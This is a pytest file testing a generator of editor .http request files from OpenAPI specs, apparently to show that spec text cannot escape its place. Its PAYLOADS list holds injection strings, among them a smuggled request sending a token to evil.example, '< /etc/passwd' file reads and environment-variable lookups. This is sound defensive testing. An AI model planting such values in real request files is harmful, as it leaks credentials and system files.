"""The files: their form, and that no text of a document leaves its place in them."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from generator.emit.wire.files import WireFileError, audit_wire_file
from generator.pipeline import Options, generate
from tests.emit import test_hostile_text

from .calls import body, operation


def wire_files(folder: Path, document: Any, **options: Any) -> dict[str, str]:
    source = folder / "api.json"
    source.write_text(json.dumps(document), encoding="utf-8")
    files = generate(source, Options(**options)).files
    return {
        path.removeprefix("tests/wire/"): text
        for path, text in files.items()
        if path.startswith("tests/wire/")
    }


def described(paths: Any, **more: Any) -> dict[str, Any]:
    info = {"title": "Things", "version": "1"}
    return {"openapi": "3.1.0", "info": info, "paths": paths, **more}


def content(media_type: str, schema: Any, **more: Any) -> Any:
    return {"description": "", "content": {media_type: {"schema": schema, **more}}}


NAMES = {"type": "array", "items": {"type": "string"}}
LONG = {"type": "object", "required": ["name", "names", "other"],
        "properties": {"name": {"type": "string"}, "names": NAMES,
                       "other": {"enum": ["x" * 60]}}}  # fmt: skip
WIDE = {"type": "object", "required": [*"abcd"],
        "properties": {name: {"enum": [name * 18, ""]} for name in "abcd"}}  # fmt: skip


def test_a_file(tmp_path: Path) -> None:
    identifier = {"name": "id", "in": "path", "required": True, "schema": {"const": 7}}
    never = {"name": "x", "in": "query", "required": True, "schema": {"not": {}}}
    paths = {
        "/things": {
            "get": operation("list") | {"responses": {"200": content("application/json", LONG)}},
            "post": operation("create", requestBody=body({"const": "{{x}}\n"}))
            | {"responses": {"201": content("text/plain", {}, example="one\n\n two")}},
        },
        "/things/{id}": {
            "delete": operation("drop", identifier) | {"responses": {"204": {"description": ""}}},
            "get": operation("watch", identifier)
            | {"responses": {"2XX": content("text/event-stream", {"type": "string"})}},
            "put": operation("never", never),
            "head": operation("probe", requestBody=body(LONG)),
            "patch": operation("change", requestBody=body(WIDE)),
        },
    }  # fmt: skip
    servers = [
        {"url": "https://{v}.api.example/", "variables": {"v": {"default": "eu"}}}
    ]
    files = wire_files(tmp_path, described(paths, servers=servers))
    assert files == {"all.http": FILE}


FILE = """\
# What client.all sends and receives, as the contract tests check it.
# An editor that runs it needs values for the variables in double braces.
@base_url = https://eu.api.example

### all.list
# client.all.list()
GET {{base_url}}/things HTTP/1.1
Accept: application/json

# HTTP/1.1 200 OK
# Content-Type: application/json
#
# {
#   "name": "text",
#   "names": [
#     "text"
#   ],
#   "other": "LONG"
# }

### all.create
# No call is shown: it has text that means something else in this file.

### all.drop
# client.all.drop()
DELETE {{base_url}}/things/7 HTTP/1.1
Accept: */*

# HTTP/1.1 204 No Content

### all.watch
# client.all.watch()
GET {{base_url}}/things/7 HTTP/1.1
Accept: text/event-stream

# HTTP/1.1 200 OK
# Content-Type: text/event-stream
#
# data: text
#
#

### all.never
# No call is shown: no valid arguments were found.

### all.probe
# client.all.probe("text", name="text", names=["text"])
HEAD {{base_url}}/things/text HTTP/1.1
Accept: application/json
Content-Type: application/json

{"name":"text","names":["text"],"other":"LONG"}

# HTTP/1.1 200 OK

### all.change
# client.all.change(
#     "text",
#     a="aaaaaaaaaaaaaaaaaa",
#     b="bbbbbbbbbbbbbbbbbb",
#     c="cccccccccccccccccc",
#     d="dddddddddddddddddd",
# )
PATCH {{base_url}}/things/text HTTP/1.1
Accept: application/json
Content-Type: application/json

{"a":"aaaaaaaaaaaaaaaaaa","b":"bbbbbbbbbbbbbbbbbb","c":"cccccccccccccccccc","d":"dddddddddddddddddd"}

# HTTP/1.1 200 OK
# Content-Type: application/json
#
# "text"
""".replace("LONG", "x" * 60)


def test_an_optional_body_with_required_arguments(tmp_path: Path) -> None:
    """Also where HTTP gives a body no meaning."""
    schema = {"type": "object", "required": ["ids"], "properties": {"ids": NAMES}}
    optional = body(schema) | {"required": False}
    paths = {"/things": {"delete": operation("drop", requestBody=optional)}}
    (text,) = wire_files(tmp_path, described(paths)).values()
    assert '# client.all.drop(ids=["text"])\nDELETE ' in text
    assert '\n\n{"ids":["text"]}\n\n' in text


@pytest.mark.parametrize(
    ("servers", "expected"),
    [
        ([], "https://api.example.com"),
        ([{"url": "/v1/"}], "https://api.example.com/v1"),
        ([{"url": "https://a.example:8443/x"}], "https://a.example:8443/x"),
        ([{"url": "https://{host}/"}], "https://api.example.com"),
        ([{"url": "https://a.example/\n@x = y"}], "https://api.example.com"),
        ([{"url": "https://a.example/{{token}}"}], "https://api.example.com"),
        ([{"url": "https://[::1"}], "https://api.example.com"),
    ],
)  # fmt: skip
def test_the_base_url(tmp_path: Path, servers: Any, expected: str) -> None:
    paths = {"/a": {"get": operation("read")}}
    text = wire_files(tmp_path, described(paths, servers=servers))["all.http"]
    assert re.findall("^@.*", text, re.MULTILINE) == [f"@base_url = {expected}"]


# Texts that mean something to an editor, at the start of a line or anywhere.
PAYLOADS = {
    **test_hostile_text.PAYLOADS,
    "variable": "{{token}}",
    "function": "{{$processEnv HOME}}",
    "next request": "x\n### y\nGET https://evil.example/{{token}} HTTP/1.1\n",
    "file": "< /etc/passwd",
    "file with variables": "<@ /etc/passwd",
    "script": "> {% client.global.set('a', 'b') %}",
    "assignment": "@base_url = https://evil.example",
    "comment line": "# x",
    "other comment line": "// x",
    "setting": "@no-log",
    "response": "# HTTP/1.1 200 OK",
    "separator": "### x",
    "blank lines": "\n\nGET https://evil.example/ HTTP/1.1",
}


def hostile(payload: str, number: int) -> tuple[dict[str, Any], dict[str, Any]]:
    """Paths and security schemes that have a payload where a request or a response has
    text.
    """
    only = {"type": "string", "enum": [payload]}
    fields = {"type": "object", "required": ["a"], "properties": {"a": only}}
    named = {"type": "object", "required": [payload], "properties": {payload: {}}}
    headers = {"a": {"headers": {"X-A": {"schema": {"const": payload}}}}}
    lines = {"type": "array", "items": only, "minItems": 2}
    bodies = {
        "json": body(fields),
        "form": body(fields, "application/x-www-form-urlencoded"),
        "parts": body(fields, "multipart/form-data"),
        "named": body(named, "multipart/form-data"),
        "headers": body(fields, "multipart/form-data", encoding=headers),
        "text": body({"type": "string"}, "text/plain", example=payload),
        "lines": body(lines, "application/jsonl"),
        "typed": body({}, payload),
    }
    places: dict[str, dict[str, Any]] = {
        "query": {"in": "query", "allowReserved": True},
        "header": {"in": "header"},
        "cookie": {"in": "cookie"},
    }
    answers = {
        "json_answer": content("application/json", fields, example={"a": payload}),
        "text_answer": content("text/plain", {"type": "string"}, example=payload),
        "typed_answer": content(payload, {}),
        "events": content("text/event-stream", only),
    }
    schemes = {
        f"key{number}": {"type": "apiKey", "in": "header", "name": payload},
        f"asked{number}": {"type": "apiKey", "in": "query", "name": payload},
    }
    paths: dict[str, Any] = {}

    def add(name: str, *parameters: Any, path: str = "", **more: Any) -> None:
        found = operation(f"{name}{number}", *parameters) | more
        found["operationId"] = f"p{number}.{name}{number}"
        paths[f"/{number}/{name}{path}"] = {"post": found | {"tags": [f"p{number}"]}}

    for name, each in bodies.items():
        add(name, requestBody=each)
    for name, each in places.items():
        add(name, {"name": "a", "required": True, "schema": only, **each})
    for name, each in answers.items():
        add(name, responses={"200": each})
    for name in schemes:
        add(name, security=[{name: []}])
    add("path", path=payload)
    add("elsewhere", servers=[{"url": f"https://other.example/{payload}"}])
    return paths, schemes


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    paths: dict[str, Any] = {}
    schemes: dict[str, Any] = {"token": {"type": "http", "scheme": "bearer"}}
    for number, payload in enumerate(PAYLOADS.values()):
        more_paths, more_schemes = hostile(payload, number)
        paths |= more_paths
        schemes |= more_schemes
    folder = tmp_path_factory.mktemp("hostile")
    servers = [{"url": "https://api.example"}]
    more: Any = {"components": {"securitySchemes": schemes}, "servers": servers}
    return wire_files(folder, described(paths, **more))


def requests_in(text: str) -> Iterator[tuple[str, list[str]]]:
    """What an editor runs: name and lines of each request, without comments."""
    for block in re.split("^###", text, flags=re.MULTILINE)[1:]:
        name, *lines = re.split("\r\n|[\n\r\x0b\x0c\x85\u2028\u2029]", block)
        kept = [line for line in lines if not re.match(r"\s*(#|//)", line)]
        yield name.strip(), "\n".join(kept).strip().split("\n")


@pytest.mark.parametrize("name", PAYLOADS)
def test_no_text_leaves_its_place(hostile_files: dict[str, str], name: str) -> None:
    number = list(PAYLOADS).index(name)
    text = hostile_files[f"p{number}.http"]
    paths, _ = hostile(PAYLOADS[name], number)
    names = [each for each, _ in requests_in(text)]
    assert len(names) == len(set(names)) == len(paths)
    assert all(re.fullmatch(rf"p{number}\.\w+", each) for each in names)
    assert re.findall("^@.*", text, re.MULTILINE) == ["@base_url = https://api.example"]
    assert re.findall(r"^#\s*@.*", text, re.MULTILINE) == []
    assert re.search(r"[^\n\x1e\x20-\x7e\xa0-\U0010ffff]", text) is None
    for _, (line, *rest) in requests_in(text):
        place = r"(\{\{base_url\}\}|https://other\.example)"
        assert re.fullmatch(rf"|POST {place}/\S* HTTP/1\.1", line)
        assert not [each for each in rest if re.match("[@<>]|[A-Z]+ http", each)]
        headers = rest[: rest.index("")] if "" in rest else rest
        assert not any("{{" in each for each in rest[len(headers) :])
        variables = [each for each in headers if "{{" in each]
        assert all(re.search(": (Bearer )?{{[a-z]+[0-9]*}}$", e) for e in variables)
        assert not any(re.match("(a|Cookie|Content-Type):", e) for e in variables)
        assert re.fullmatch(r"[^{]*|.*?=\{\{asked\d+\}\}( .*|&.*)", line.replace("{{base_url}}", ""))  # fmt: skip


HEAD = "# A head.\n@base_url = https://api.example\n\n"
BLOCK = "### a.b\n# client.a.b()\nGET {{base_url}}/x HTTP/1.1\nAccept: */*\n"


@pytest.mark.parametrize(
    "text",
    [
        BLOCK,
        "@x = y\n" + HEAD + BLOCK,
        HEAD.replace("https", "ftp") + BLOCK,
        HEAD + BLOCK + "A: {{other}}\n",
        HEAD + BLOCK + "\n{{token}}\n",
        HEAD + BLOCK + "\nx\n@a = b\n",
        HEAD + BLOCK + "\n< /etc/passwd\n",
        HEAD + BLOCK + "\n> script\n",
        HEAD + BLOCK + "\nx\n# not a response\n",
        HEAD + BLOCK + "\n//x\n",
        HEAD + BLOCK + "\n\nx\n",
        HEAD + BLOCK + "\nx\x85y\n",
        HEAD + BLOCK + "\n# HTTP/1.1 200 OK\nGET https://x.example/ HTTP/1.1\n",
        HEAD + BLOCK + "\n# HTTP/1.1 200 OK\n# @no-log\n",
        HEAD + BLOCK.replace("### a.b", "### a b"),
        HEAD + BLOCK.replace("# client", "client"),
        HEAD + BLOCK.replace("Accept", "#Accept"),
        HEAD + BLOCK + "\n###\nGET https://x.example/ HTTP/1.1\n",
    ],
)
def test_the_audit_refuses(text: str) -> None:
    with pytest.raises(WireFileError):
        audit_wire_file(text, {"token"})


@pytest.mark.parametrize(
    "more",
    ["", "A: {{token}}\n", "\nx\n\ny\n", "\n# HTTP/1.1 204 No Content\n",
     "\nx\n\n# HTTP/1.1 200 OK\n# A: b\n#\n#\n# x\n", f"\n{BLOCK}"],
)  # fmt: skip
def test_the_audit_accepts(more: str) -> None:
    audit_wire_file(HEAD + BLOCK + more, {"token"})
